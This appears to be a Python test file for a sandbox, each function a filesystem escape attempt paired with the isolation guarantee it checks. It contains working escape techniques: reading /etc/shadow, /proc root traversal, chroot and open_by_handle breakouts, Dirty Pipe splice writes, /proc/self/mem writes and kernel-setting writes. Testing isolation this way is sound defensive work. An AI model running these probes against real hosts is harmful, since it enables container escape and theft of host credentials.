"""Attacks on files: a box reads nothing of the host but what is shown, and writes nothing outside its scratch space."""

from inside import *  # noqa: F403

AT_FDCWD = -100
AT_RECURSIVE = 0x8000
AT_EMPTY_PATH = 0x1000
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
MNT_DETACH = 2
DEVICES = ["vda", "sda", "mem", "port", "kmsg", "kvm", "fuse", "net/tun", "vsock", "console", "tty0", "ttyS0", "loop-control",
           "mapper/control", "cpu/0/msr", "dri/card0", "input/event0", "snapshot", "userfaultfd", "vhost-net", "nvidia0", "btrfs-control"]
WRITABLE = ("/workspace", "/tmp", "/dev/shm")


@attack("filesystem", control=True)
def read_host_canary(context):
    """Opens secret files of the host by their paths. Promise: no file outside of the grant."""
    return first_that_works(context["canaries"], read_some)


@attack("filesystem", control=True)
def read_shadow(context):
    """Reads the host's password hashes. Promise: no file outside of the grant."""
    return first_that_works(["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/machine-id"], read_some)


@attack("filesystem", control=True)
def list_host_directories(context):
    """Lists directories that only the host has. Promise: /root /home /run /boot and the like are not there, of /sys the box's own limits."""
    return first_that_works(
        ["/root", "/home", "/var/lib", "/var/log", "/run", "/sys/class", "/sys/kernel", "/sys/block", "/sys/module", "/sys/devices/system/node", "/boot", "/srv", "/opt", "/media", "/etc/ssh", "/mnt"],
        os.listdir,
    )


@attack("filesystem", control=True)
def enter_roots_of_processes(context):
    """Reaches the canary through /proc/PID/root and cwd of everybody, process 1 first. Promise: own root only."""
    places = [f"/proc/{pid}/{link}{path}" for pid in [1, *processes()] for link in ("root", "cwd") for path in context["canaries"]]
    return first_that_works(places, read_some)


@attack("filesystem", control=True)
def climb_out_by_dots(context):
    """Climbs with ../ from every working place. Promise: pivot_root leaves nothing above the root."""
    starts = [".", "/workspace", "/tmp", "/usr", "/proc/self/cwd", "/dev/fd"]
    return first_that_works([start + "/.." * 64 + path for start in starts for path in context["canaries"]], read_some)


@attack("filesystem")
def climb_out_by_descriptors(context):
    """Opens the canary relative to each inherited descriptor. Promise: no descriptor of the host's (CVE-2024-21626)."""
    for number in set(range(3, 1024)) - {context["verdict_fd"]}:
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        got = first_that_works(["../" * 32 + path for path in context["canaries"]], lambda path, n=number: os.open(path, 0, dir_fd=n))
        return got or f"descriptor {number} is open, of mode {mode:o}"
    return None


@attack("filesystem", control=True)
def follow_planted_symlinks(context):
    """Plants symlinks to the host in its scratch space and follows them. Promise: links resolve in the box."""
    def plant(path):
        link = f"/tmp/link-{os.getpid()}-{abs(hash(path))}"
        os.symlink(path, link)
        try:
            return read_some(link)
        finally:
            os.unlink(link)

    return first_that_works([*context["canaries"], "/proc/1/root/etc/shadow"], plant)


@attack("filesystem", control=True)
def write_outside_of_scratch(context):
    """Creates files in every directory that is not scratch space. Promise: the root and /usr are read-only."""
    def create(directory):
        path = f"{directory}/.nacre-escape-{os.getpid()}"
        os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        os.unlink(path)
        return "created a file"

    where = ["/usr", "/usr/bin", "/usr/lib", "/usr/local/bin", "/etc", "/etc/ssl/certs", "/", "/root", "/dev", "/var", "/mnt"]
    return first_that_works(where, create)


@attack("filesystem")
def truncate_read_only_files(context):
    """Opens shown files for writing and with O_TRUNC. Promise: what is shown is read-only."""
    files = ["/usr/bin/env", "/etc/passwd", "/etc/hosts", "/etc/ld.so.cache", "/usr/lib/os-release", "/etc/services"]
    return first_that_works(
        [(path, flags) for path in files for flags in (os.O_WRONLY, os.O_RDWR, os.O_RDONLY | os.O_TRUNC)],
        lambda pair: f"descriptor {os.open(*pair)}",
    )


@attack("filesystem", control=True)
def change_attributes_of_read_only_files(context):
    """chmod, chown, utime and setxattr on shown files, which Landlock never stops. Promise: read-only mounts do."""
    path = "/usr/bin/env"
    status = os.stat(path)
    return first_that_works(["chmod", "utime", "xattr"], lambda how: {
        "chmod": lambda: os.chmod(path, stat.S_IMODE(status.st_mode)),
        "utime": lambda: os.utime(path, ns=(status.st_atime_ns, status.st_mtime_ns)),
        "xattr": lambda: os.setxattr(path, "user.nacre", b"x") or os.removexattr(path, "user.nacre"),
    }[how]() or "done")


@attack("filesystem")
def change_attributes_of_devices(context):
    """chmod, unlink and replace the device files, whose mounts are writable. Promise: the host's devices stay as they are."""
    def attempt(how):
        if how == "chmod":
            os.chmod("/dev/null", 0o666)
        elif how == "unlink":
            os.unlink("/dev/null")
        else:
            os.rename("/dev/zero", "/dev/null")
        return "done"

    return first_that_works(["chmod", "unlink", "rename"], attempt)


@attack("filesystem")
def hard_link_read_only_files(context):
    """Links a host file into scratch space, to write it there. Promise: scratch space is a file system of its own."""
    return first_that_works(["/usr/bin/env", "/etc/passwd", "/dev/null"], lambda path: os.link(path, f"/tmp/hard-{os.getpid()}") or "linked")


@attack("filesystem")
def replace_mount_points(context):
    """Renames or removes the places where mounts stand. Promise: the workspace's root cannot be replaced."""
    def attempt(path):
        os.rename(path, path + "-old")
        return "renamed"

    return first_that_works(["/workspace", "/tmp", "/dev/shm", "/proc", "/usr", "/dev"], attempt)


@attack("filesystem")
def find_writable_mounts(context):
    """Looks for mounts that were forgotten when all was made read-only, sub-mounts too. Promise: only scratch is writable."""
    devices = [f"/dev/{name}" for name in ("null", "zero", "full", "random", "urandom", "tty", "pts", "ptmx")]
    for line in open("/proc/self/mountinfo"):
        _, _, _, root, place, options = line.split()[:6]
        if "rw" in options.split(",") and place not in (*WRITABLE, *devices, "/proc", "/dev/pts") and root != "/null":
            return f"{place} is writable: {options}"
    return None


@attack("filesystem")
def find_mounts_with_suid_or_devices(context):
    """Looks for a mount without nosuid, or without nodev that is no device. Promise: everything is nosuid,nodev."""
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        place, options = fields[4], fields[5].split(",")
        is_device = stat.S_ISCHR(os.stat(place).st_mode)
        if "nosuid" not in options or ("nodev" not in options and not is_device and place != "/dev/pts"):
            return f"{place}: {options}"
    return None


@attack("filesystem")
def remount_writable(context):
    """Remounts read-only mounts writable. Promise: no right to mount."""
    return first_that_works(["/usr", "/", "/proc/sys", "/etc/passwd"], lambda path: call("mount", 0, path.encode(), 0, MS_REMOUNT | MS_BIND, 0) or "remounted")


@attack("filesystem")
def unmount_the_masks(context):
    """Takes the masks off /proc. Promise: what is masked stays masked."""
    return first_that_works(["/proc/sys", "/proc/kallsyms", "/proc/kmsg", "/proc/bus", "/dev/null", "/proc"], lambda path: call("umount2", path.encode(), MNT_DETACH) or "unmounted")


@attack("filesystem", control=True)
def mount_by_old_call(context):
    """mount(2): bind, tmpfs, proc. Promise: no right to mount."""
    return first_that_works(
        [(b"/usr", b"/tmp", None, MS_BIND), (b"none", b"/tmp", b"tmpfs", 0), (b"none", b"/tmp", b"proc", 0), (b"none", b"/tmp", b"sysfs", 0)],
        lambda words: call("mount", words[0], words[1], words[2] or 0, words[3], 0) or "mounted",
    )


@attack("filesystem", control=True)
def mount_by_new_calls(context):
    """fsopen, fspick, open_tree and mount_setattr, which denylists forget (CVE-2021-41133). Promise: no right to mount."""
    attributes = struct.pack("QQQQ", 0, 1, 0, 0)
    return first_that_works(["fsopen", "fspick", "open_tree", "mount_setattr"], lambda name: {
        "fsopen": lambda: call("fsopen", b"tmpfs", 0),
        "fspick": lambda: call("fspick", AT_FDCWD, b"/tmp", 0),
        "open_tree": lambda: call("open_tree", AT_FDCWD, b"/usr", 1 | AT_RECURSIVE),
        "mount_setattr": lambda: call("mount_setattr", AT_FDCWD, b"/usr", 0, attributes, 32) or "changed",
    }[name]())


@attack("filesystem")
def pivot_root_away(context):
    """pivot_root to scratch space, to look at what is left. Promise: no right to do so."""
    return call("pivot_root", b"/tmp", b"/tmp") or "pivoted"


@attack("filesystem", control=True)
def leave_by_chroot(context):
    """The classic: chroot below, keep a descriptor above, climb. Promise: no CAP_SYS_CHROOT."""
    above = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return f"chroot works: {os.listdir('/')}"


@attack("filesystem", control=True)
def make_device_nodes(context):
    """mknod of the first disk and of memory. Promise: no devices but the six."""
    def make(directory):
        path = f"{directory}/node-{os.getpid()}"
        os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(254, 0))
        os.unlink(path)
        return "made a node"

    return first_that_works(["/workspace", "/tmp", "/dev", "/dev/shm"], make)


@attack("filesystem")
def open_host_devices(context):
    """Opens disks, memory, kvm, fuse, tun, kmsg, vsock. Promise: /dev has null zero full random urandom tty, terminals of its own, and no more."""
    return first_that_works([f"/dev/{name}" for name in DEVICES], lambda path: f"mode {os.stat(path).st_mode:o}")


@attack("filesystem")
def find_terminals_of_others(context):
    """Looks in /dev/pts for terminals that it has not made. Promise: the box's own, beginning with number 0."""
    before = [name for name in os.listdir("/dev/pts") if name != "ptmx"]
    _, slave = os.openpty()
    name = os.ttyname(slave)
    return f"{before}, {name}" if before or name != "/dev/pts/0" else None


@attack("filesystem", control=True)
def open_host_devices_for_real(context):
    """The same, by open() and not only by name. Promise: none of them, also where their names are seen."""
    def attempt(pair):
        return f"descriptor {os.open(pair[0], pair[1] | os.O_NONBLOCK | os.O_NOCTTY)}"

    return first_that_works([(f"/dev/{name}", flags) for name in DEVICES for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR)], attempt)


@attack("filesystem", control=True)
def open_by_handle(context):
    """Opens the root of the file system behind /usr by a made-up handle (the "shocker"). Promise: no file by handle."""
    handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, 2, 0), 24)  # inode 2: the root of ext4
    mount = os.open("/usr", os.O_RDONLY)
    descriptor = call("open_by_handle_at", mount, handle, os.O_RDONLY)
    return f"opened: {os.listdir(f'/proc/self/fd/{descriptor}')}"


@attack("filesystem")
def write_shared_pages_by_splice(context):
    """Writes into the page cache of a read-only file through a pipe (CVE-2022-0847). Promise: read-only means so."""
    path = "/usr/bin/env"
    before = read_some(path, 64)
    reader, writer = os.pipe()
    for _ in range(16):
        os.write(writer, b"x" * 4096)
    for _ in range(16):
        os.read(reader, 4096)
    file = os.open(path, os.O_RDONLY)
    os.splice(file, writer, 1, offset_src=3)
    os.write(writer, b"NACRE")
    return None if read_some(path, 64) == before else "changed /usr/bin/env"


@attack("filesystem")
def write_read_only_mapping_by_proc_mem(context):
    """Forces a write into a private mapping of a host file through /proc/self/mem. Promise: the file stays as it is."""
    path = "/usr/bin/env"
    before = read_some(path, 64)
    file = os.open(path, os.O_RDONLY)
    libc.mmap.restype = ctypes.c_void_p
    place = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file, ctypes.c_long(0))  # PROT_READ, MAP_SHARED
    memory = os.open("/proc/self/mem", os.O_RDWR)
    try:
        os.pwrite(memory, b"NACRE", place)
    except OSError:
        pass
    return None if read_some(path, 64) == before else "changed /usr/bin/env"


@attack("filesystem", control=True)
def write_kernel_settings(context):
    """Writes its own value back into kernel settings. Promise: /proc/sys is read-only."""
    names = ["kernel/core_pattern", "kernel/hostname", "vm/overcommit_memory", "kernel/modprobe", "fs/file-max", "kernel/ns_last_pid", "net/ipv4/ip_forward", "user/max_user_namespaces", "kernel/randomize_va_space"]

    def write(name):
        path = f"/proc/sys/{name}"
        value = read_some(path)
        descriptor = os.open(path, os.O_WRONLY)
        return f"wrote {os.write(descriptor, value)} bytes"

    return first_that_works(names, write)


@attack("filesystem")
def command_the_kernel_by_proc(context):
    """Opens the commanding files of /proc for writing. Promise: sysrq-trigger and the like are masked."""
    def write(path):
        status = os.stat(path)
        if stat.S_ISCHR(status.st_mode):  # masked by /dev/null
            return None
        return f"descriptor {os.open(path, os.O_WRONLY)}"

    return first_that_works([f"/proc/{name}" for name in ("sysrq-trigger", "mtrr", "irq/default_smp_affinity", "latency_stats", "kcore", "acpi/wakeup", "bus/pci/00/00.0", "scsi/scsi")], write)


@attack("filesystem")
def make_deep_directories_and_strange_names(context):
    """A thousand levels deep, names with newlines and invalid UTF-8. Promise: cleaning up is not bothered."""
    os.chdir("/workspace")
    for _ in range(1000):
        os.mkdir(b"d\n\xff" + b"x" * 200)
        os.chdir(b"d\n\xff" + b"x" * 200)
    os.chmod(".", 0)
    return None
